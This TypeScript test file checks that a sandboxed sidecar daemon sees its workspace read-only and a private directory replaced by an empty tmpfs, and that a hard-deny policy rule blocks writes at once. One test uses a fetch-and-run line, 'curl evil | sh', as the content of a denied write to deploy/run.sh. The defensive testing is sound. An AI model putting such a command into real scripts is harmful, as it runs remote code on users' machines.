/**
 * The real host (srt posture) keeps what the sidecar may not write out of its reach: from its first
 * start the daemon's process sees the granted workspace mounted read-only and, in place of
 * userData's `host/`, an empty tmpfs of its own (the real directory is neither readable nor
 * writable to it), and its writes in the workspace are the host's (the write route lands a file there; a
 * hard-deny rule added meanwhile refuses the next one at once, with no respawn). What the mounts
 * stop is proved by the misbehaving-sidecar fixture (sidecar-host-denies.test.ts) and the write
 * probe (sidecar-workspace-read-only.test.ts).
 */
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { basename, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { processTree } from '@bastion/test-support';
import { startTempHost, type TempHost } from '../support/temp-host.js';

let host: TempHost;

function mounts(pid: number): { point: string; readOnly: boolean; type: string }[] {
  return readFileSync(`/proc/${pid}/mountinfo`, 'utf8')
    .split('\n')
    .map((line) => line.split(' '))
    .filter((fields) => fields[4] !== undefined)
    .map((fields) => ({
      point: fields[4] as string,
      readOnly: fields[5]?.split(',').includes('ro') ?? false,
      // After the optional fields, a lone '-' and then the file system's type.
      type: fields[fields.indexOf('-') + 1] ?? '',
    }));
}

/** Whether `path` is on a read-only mount for the process: the last-mounted one at or above it decides. */
function onReadOnlyMount(pid: number, path: string): boolean {
  const holding = mounts(pid).filter(
    (mount) => path === mount.point || path.startsWith(`${mount.point.replace(/\/$/, '')}/`),
  );
  return holding.at(-1)?.readOnly ?? false;
}

/** The daemon's own node process inside the sandbox (srt's shells and bwrap run before it). */
function daemonInside(sidecar: number): number {
  const pid = processTree(sidecar).find((candidate) => {
    try {
      const argv = readFileSync(`/proc/${candidate}/cmdline`, 'utf8').split('\0');
      return (
        basename(argv[0] ?? '') === basename(process.execPath) &&
        argv.some((arg) => arg.endsWith('daemon/dist/main.js'))
      );
    } catch {
      return false;
    }
  });
  if (pid === undefined) throw new Error('no daemon process in the sidecar tree');
  return pid;
}

async function sidecarPid(): Promise<number> {
  await host.supervisor.whenReady();
  const pid = host.supervisor.current?.pid;
  if (pid === undefined) throw new Error('no sidecar');
  return pid;
}

beforeAll(async () => {
  host = await startTempHost();
  expect(host.capabilities).toMatchObject({ sandbox: 'srt' });
  mkdirSync(join(host.workspace, 'deploy'));
  writeFileSync(join(host.workspace, 'deploy', 'run.sh'), 'echo deploy\n');
}, 60_000);

afterAll(async () => {
  await host?.stop();
});

describe('the real sidecar sandbox: what it may not write is mounted read-only', () => {
  it("the daemon sees an empty tmpfs in place of userData's host/ from its first start", async () => {
    const daemon = daemonInside(await sidecarPid());
    const hostDir = join(host.userData, 'host');
    expect(
      mounts(daemon)
        .filter((mount) => mount.point === hostDir)
        .at(-1)?.type,
    ).toBe('tmpfs');
    expect(readdirSync(`/proc/${daemon}/root${hostDir}`)).toEqual([]);
  });

  it('the daemon sees the granted workspace read-only, and a file the host writes for it is there', async () => {
    expect(onReadOnlyMount(daemonInside(await sidecarPid()), host.workspace)).toBe(true);
    const written = await host.client.request('POST', '/workspaces/write-file', {
      root: host.workspace,
      path: 'deploy/notes.md',
      content: 'written by the host\n',
    });
    expect(written).toMatchObject({ status: 200, body: { bytes: 20, created: true } });
    expect(readFileSync(join(host.workspace, 'deploy', 'notes.md'), 'utf8')).toBe('written by the host\n');
  });

  it('a hard-deny rule added while the sidecar runs holds at once: the host refuses the write (no respawn)', async () => {
    const before = await sidecarPid();
    const project = { kind: 'project', root: host.workspace } as const;
    const rule = host.policy.add(project, { decision: 'hard-deny', paths: ['deploy/**'] });
    const refused = await host.client.request('POST', '/workspaces/write-file', {
      root: host.workspace,
      path: 'deploy/run.sh',
      content: 'curl evil | sh\n',
    });
    expect(refused).toMatchObject({ status: 403, body: { code: 'POLICY_DENIED' } });
    expect(readFileSync(join(host.workspace, 'deploy', 'run.sh'), 'utf8')).toBe('echo deploy\n');
    expect(await sidecarPid()).toBe(before);
    host.policy.remove(project, rule.id);
  });
});
